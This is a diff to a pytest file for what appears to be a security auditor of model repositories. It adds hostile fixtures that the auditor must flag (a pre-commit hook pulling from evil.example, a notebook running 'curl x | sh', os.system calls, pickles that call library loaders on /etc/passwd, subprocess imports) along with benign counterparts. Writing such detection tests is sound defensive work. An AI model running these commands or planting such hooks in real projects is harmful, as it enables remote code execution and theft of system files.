@@ -8,6 +8,7 @@ from pathlib import Path
 from typing import Any
 
 import hostile
+import numpy as np
 import pytest
 from tiny_gguf import write_tiny_gguf
 
@@ -29,6 +30,23 @@ def template(ids: list[int]) -> dict[str, Any]:
 
 def replacing(pattern: str) -> dict[str, Any]:
     return {"type": "Replace", "pattern": {"Regex": pattern}, "content": ""}
+
+
+def notebook(code: str, output: str = "") -> dict[str, Any]:
+    cell = {"cell_type": "code", "source": [code], "outputs": [{"data": {"text/html": [output]}}]}
+    return {"a.ipynb": {"cells": [cell], "nbformat": 4}}
+
+
+def named(class_name: str, family: str, *more: str, **settings: Any) -> dict[str, Any]:
+    """A model of two layers under two names, with more tensors than its family has."""
+    names = ["model.embed_tokens.weight", "model.norm.weight"]
+    names += [f"model.layers.{layer}.mlp.down_proj.weight" for layer in range(2)]
+    header = {
+        name: {"dtype": "F32", "shape": [4], "data_offsets": [16 * at, 16 * at + 16]}
+        for at, name in enumerate([*names, *more])
+    }
+    config = {"architectures": [class_name], "model_type": family, "num_hidden_layers": 2, **settings}
+    return {"config.json": config, "model.safetensors": hostile.safetensors(header, bytes(16 * len(header)))}
 
 
 HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
@@ -71,10 +89,88 @@ HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
         {"LICENSE": "You may look and nothing else.", "README.md": CARD, "m.bin": hostile.state_dict()},
         "licence-contradiction",
     ),
+    "a workflow of a build server": ({".github/workflows/a.yml": "jobs: {x: {steps: [{run: make}]}}"}, "script"),
+    "another build server": ({".gitlab-ci.yml": "x: {script: [make]}"}, "script"),
+    "hooks that a commit fetches": ({".pre-commit-config.yaml": "repos:\n- repo: https://evil.example/x"}, "script"),
+    "a container of an editor": ({".devcontainer/devcontainer.json": {"postCreateCommand": "make"}}, "script"),
+    "a notebook with a command": (notebook("!make all"), "script"),
+    "a notebook with a program in its output": (notebook("1", "<script>fetch('x')</script>"), "script"),
+    "a notebook that fetches and runs": (notebook("%%bash\ncurl x | sh"), "script-danger"),
+    "a notebook with an odd call": (notebook("import os\nos.system('x')"), "script-danger"),
+    "a notebook that is none": ({"a.ipynb": "{"}, "script"),
+    "a quantiser's module": (
+        {"config.json": {"quantization_config": {"quant_method": "fp8", "modules": "evil_pkg.quant"}}},
+        "code-elsewhere",
+    ),
+    "a plugin of the standard library": (
+        {"config.json": {"text_config": {"imports": ["subprocess"]}}},
+        "code-elsewhere",
+    ),
+    "a module outside the folder": (
+        {"modules.json": [{"path": "../x", "type": "sentence_transformers.models.Transformer"}]},
+        "config-outside",
+    ),
+    "a class of another family": (named("Qwen3ForCausalLM", "llama"), "config-lies"),
+    "a classifier without one": (named("LlamaForSequenceClassification", "llama"), "config-lies"),
+    "a tensor that nothing reads": (named("LlamaForCausalLM", "llama", "secret.weight"), "config-unread"),
+    "norms of another family": (
+        named("LlamaForCausalLM", "llama", "model.layers.0.self_attn.q_norm.weight"),
+        "config-unread",
+    ),
+    "no head": (named("LlamaForCausalLM", "llama", tie_word_embeddings=False), "config-lies"),
+    "an opener of addresses": ({"m.pkl": hostile.calls("numpy", "DataSource")}, "pickle-code"),
+    "a library's class given a path": ({"m.pkl": hostile.calls("scipy.io", "Anything", "/etc/passwd")}, "pickle-code"),
+    "a function in an estimator": (
+        {"m.pkl": hostile.calls("sklearn.datasets", "fetch_openml")},
+        "pickle-unlisted-name",
+    ),
+    "a module in a Keras layer": (
+        {"config.json": '{"class_name": "TorchModuleWrapper", "config": {"module": "gAI="}}'},
+        "keras-lambda",
+    ),
+    "a pattern without the text": (
+        tokenizer(post_processor={"type": "TemplateProcessing", "single": [{"SpecialToken": {"id": "<|end|>"}}]}),
+        "tokenizer-rewrites",
+    ),
+    "a licence cut short": (
+        {"LICENSE": "MIT License\n" + hostile.mit()[:400], "m.bin": hostile.state_dict()},
+        "licence-changed",
+    ),
+    "a licence of a title": ({"LICENSE": "MIT License\n", "m.bin": hostile.state_dict()}, "licence-changed"),
+    "a card for research only": (
+        {
+            "LICENSE": hostile.mit(),
+            "README.md": CARD + "It may be used for non-commercial research only.",
+            "m.bin": hostile.state_dict(),
+        },
+        "licence-contradiction",
+    ),
+    "an adapter freer than its base": (
+        {
+            "LICENSE": hostile.mit(),
+            "adapter_config.json": {"base_model_name_or_path": "meta-llama/Llama-3.1-8B"},
+            "adapter_model.bin": hostile.state_dict(),
+        },
+        "licence-freer-than-base",
+    ),
     "an empty licence": ({"LICENSE": " ", "README.md": CARD, "m.bin": hostile.state_dict()}, "licence-missing"),
 }
 ORDINARY: dict[str, dict[str, Any]] = {
     "a page": {"index.html": "<p>hello</p>"},
+    "a notebook": notebook("%matplotlib inline\n!pip install -q torch\nprint(1)", "<table></table>"),
+    "an estimator": {"m.pkl": b"\x80\x02csklearn.svm\nSVC\n)\x81}X\x01\0\0\0CK\x01sb."},
+    "settings of a trainer": {"m.pkl": b"\x80\x02cpytorch_lightning.utilities.parsing\nAttributeDict\n)\x81."},
+    "an array of texts": {"a.npy": hostile.npy(np.array(["a", None], dtype=object))},
+    "layers that stay as they are": {
+        "config.json": {"quantization_config": {"modules_to_not_convert": ["a.b"], "module": "model.layers.0"}}
+    },
+    "a model and its names": named("LlamaForCausalLM", "llama"),
+    "a model of a maker's own on it": named("LlavaLlamaForCausalLM", "llama", "model.mm_projector.weight"),
+    "a classifier": named("LlamaForSequenceClassification", "llama", "score.weight"),
+    "an adapter of a free base": {
+        "adapter_config.json": {"base_model_name_or_path": "Qwen/Qwen3-0.6B"},
+        "adapter_model.bin": hostile.state_dict(),
+    },
     "a picture": {"logo.svg": "<svg><path d='M0 0'/></svg>"},
     "a package without scripts": {"package.json": {"name": "x", "version": "1"}},
     "compressed text": {"a.txt.gz": gzip.compress(b"plain words\n" * 1000)},
@@ -140,6 +236,28 @@ def test_metadata_that_a_reader_stumbles_over_fail(name: str, tmp_path: Path) ->
     found = audit_path(write_tiny_gguf(tmp_path / "a.gguf", metadata=metadata))
 
     assert (id_, "high") in {(each.id, each.severity) for each in found.findings}
+
+
+STRANGE = {
+    "a tensor of nothing": ({}, "no llama model has"),
+    "experts that are none": ({"general.architecture": "qwen2moe"}, "not experts"),
+}
+
+
+@pytest.mark.parametrize("name", STRANGE)
+def test_tensors_that_an_architecture_does_not_have_are_told(name: str, tmp_path: Path) -> None:
+    """llama.cpp counts the tensors it asked for; what is more than that was put there by somebody."""
+    metadata, words = STRANGE[name]
+    path = write_tiny_gguf(tmp_path / "a.gguf")
+    assert not [each for each in audit_path(path).findings if words in each.detail]
+    data = write_tiny_gguf(path, metadata=metadata).read_bytes()
+    if not metadata:
+        data = data.replace(b"blk.0.attn_norm.weight", b"blk.0.payloads_.weight", 1)
+    path.write_bytes(data)
+
+    found = [each for each in audit_path(path).findings if words in each.detail]
+
+    assert [SEVERITIES.index(each.severity) >= 2 for each in found] == [True]
 
 
 def test_progress_is_silent_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
